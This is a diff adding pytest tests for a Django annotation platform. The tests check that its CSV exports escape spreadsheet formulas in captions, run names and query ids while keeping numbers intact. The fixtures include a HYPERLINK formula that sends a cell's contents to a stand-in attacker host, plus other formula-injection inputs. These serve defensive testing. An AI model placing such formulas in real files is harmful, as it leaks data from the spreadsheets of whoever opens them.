@@ -1,0 +1,106 @@
+"""CSV (formula) injection: every CSV the platform writes for download escapes text a spreadsheet
+would run as a formula, and leaves numbers alone."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.core.management import call_command
+
+from annotation.formats.csv_safe import csv_cell, safe_csv_writer
+from annotation.models import Caption, Label, PooledPair, Report, Run
+from annotation.selectors.moments import infap_csv, moment_metrics_csv
+from annotation.services.exports import artefact_file, export_create
+from annotation.services.reports import report_create
+from tests.factories import make_pool_with_runs, make_rater, make_user
+
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-"])
+def test_text_a_spreadsheet_would_run_gets_a_quote(text):
+    assert csv_cell(text) == "'" + text
+    assert csv_cell(text, numeric=True) == "'" + text  # not a number, so escaped even in a number column
+
+
+@pytest.mark.parametrize("value", [-0.25, -3, 0.0, 1e-9, True])
+def test_numbers_are_data(value):
+    assert csv_cell(value) is value
+
+
+@pytest.mark.parametrize("text", ["-0.250000", "-3", "+1.5", "-1e-05", "-.5"])
+def test_numbers_formatted_as_text_stay_in_a_number_column_only(text):
+    assert csv_cell(text, numeric=True) == text
+    assert csv_cell(text) == "'" + text  # the same text in a text column (a caption) is escaped
+
+
+@pytest.mark.parametrize("text", ["a dog runs", "1+1", "", " =1", "'=1", "r=0.5"])
+def test_other_text_is_left_alone(text):
+    assert csv_cell(text) == text
+
+
+def test_writer_escapes_per_column_and_round_trips():
+    out = io.StringIO()
+    writer = safe_csv_writer(out, numeric_columns={2})
+    writer.writeheader(["caption", "score", "formatted"])
+    writer.writerow([LINK, -0.25, "-0.250000"])
+    writer.writerow(["-0.25", None, "=1+1"])
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows == [["caption", "score", "formatted"], ["'" + LINK, "-0.25", "-0.250000"], ["'-0.25", "", "'=1+1"]]
+
+
+# --- every writer the platform has ------------------------------------------------------------
+
+@pytest.fixture
+def pool(db):
+    """Two runs A and B over four captions; two captions carry formulas; three labels given."""
+    pool, _ = make_pool_with_runs(captions=4, clips=6, depth=3)
+    Caption.objects.filter(dataset=pool.dataset, external_id="q1").update(text=LINK)
+    Caption.objects.filter(dataset=pool.dataset, external_id="q2").update(text="@SUM(1+1)")
+    rater = make_rater()
+    for n, pair in enumerate(PooledPair.objects.filter(pool=pool, role="pool").order_by("pk")[:3], start=1):
+        Label.objects.create(pair=pair, rater=rater, value=Label.Value.RELEVANT, client_id=f"c{n}", counted=True,
+                             sequence=1, seconds=2.5)
+    return pool
+
+
+def test_label_export_escapes_captions_and_keeps_numbers(pool):
+    text = artefact_file(artefact=export_create(pool=pool, fmt="csv")).read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    by_caption = {r["caption_id"]: r["caption_text"] for r in rows}
+    assert by_caption == {"q1": "'" + LINK, "q2": "'@SUM(1+1)", "q3": "caption 3", "q4": "caption 4"}
+    labelled = [r for r in rows if r["label_id"]]
+    assert len(labelled) == 3 and {r["seconds"] for r in labelled} == {"2.5"}
+    assert all(r["pair_id"].isdigit() for r in rows)
+
+
+def test_report_csv_escapes_run_names_and_keeps_negative_numbers(pool, client):
+    Run.objects.filter(dataset=pool.dataset, name="A").update(name="-A")
+    report = report_create(pool=pool, kind="metrics")
+    for cell in report.result["kendall_tau"].values():
+        cell["tau"] = -0.25
+    Report.objects.filter(pk=report.pk).update(result=report.result)
+    client.force_login(make_user("researcher"))
+    metrics = list(csv.reader(io.StringIO(client.get(f"/api/v1/reports/{report.pk}/csv/?table=metrics").content.decode())))
+    assert [row[0] for row in metrics[1:]] == ["'-A", "B"]
+    tau = list(csv.reader(io.StringIO(client.get(f"/api/v1/reports/{report.pk}/csv/?table=kendall_tau").content.decode())))
+    assert len(tau) > 1 and {row[1] for row in tau[1:]} == {"-0.25"}
+
+    out = io.StringIO()
+    call_command("report", "--pool", str(pool.pk), "--kind", "metrics", "--csv", "overlap", stdout=out)
+    assert out.getvalue().splitlines()[1].startswith("'-A,B,")
+
+
+def test_moment_and_infap_csvs_escape_names_and_keep_negative_figures():
+    moment = Report(kind="moment_metrics", result={
+        "columns": ["R@1 IoU=0.5"],
+        "runs": [{"run_id": 7, "run": "@cmd", "corrected": {"R@1 IoU=0.5": -0.25}, "original": {"R@1 IoU=0.5": 0.5}}]})
+    rows = list(csv.reader(io.StringIO(moment_metrics_csv(report=moment))))
+    assert rows[1] == ["7", "'@cmd", "corrected", "-0.250000"] and rows[2][3] == "0.500000"
+
+    infap = Report(kind="infap", result={
+        "measures": ["xinfAP"], "queries": ["=q1"],
+        "runs": [{"run_id": 7, "run": "r", "per_query": {"xinfAP": {"=q1": -0.125}}, "mean": {"xinfAP": -0.125}}]})
+    rows = list(csv.reader(io.StringIO(infap_csv(report=infap))))
+    assert rows[1] == ["7", "r", "'=q1", "-0.125000"] and rows[2] == ["7", "r", "all", "-0.125000"]
